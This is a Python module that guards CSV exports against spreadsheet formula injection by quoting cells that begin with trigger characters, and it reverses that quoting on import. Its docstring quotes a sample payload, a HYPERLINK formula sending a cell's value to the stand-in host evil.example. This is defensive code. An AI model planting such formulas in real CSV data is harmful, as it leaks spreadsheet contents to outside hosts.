"""Spreadsheet-safe CSV: the one rule for every CSV we write, and its inverse for import.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula (tab and CR can hide one), so a subscriber's name
such as ``=HYPERLINK("http://evil.example/?"&A1,"x")`` in an admin's export
becomes a working link that leaks the sheet (OWASP "CSV Injection"). Every
cell we write gets a leading ``'`` when it starts with one of those, which
spreadsheets show as text and do not evaluate. A cell that already starts
with quotes before such a character gets one more, so that ``unguard`` (used
by the import on every field) can remove exactly one and an export imported
again is the same data.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

#: Characters that make a spreadsheet treat a cell as a formula (OWASP).
TRIGGERS = "=+-@\t\r"
_GUARDED = re.compile(r"'*[" + re.escape(TRIGGERS) + "]")


def guard(value: object) -> str:
    """The cell as we write it: ``'`` in front when a spreadsheet would read a formula."""
    text = "" if value is None else str(value)
    return "'" + text if _GUARDED.match(text) else text


def unguard(text: str) -> str:
    """The cell as it was before ``guard``: one leading ``'`` removed where guard added it."""
    return text[1:] if text.startswith("'") and _GUARDED.match(text, 1) else text


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``guard``: the only way we write CSV."""

    def __init__(self, out: IO[str], **fmt: Any) -> None:
        self._writer = csv.writer(out, **fmt)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([guard(cell) for cell in row])
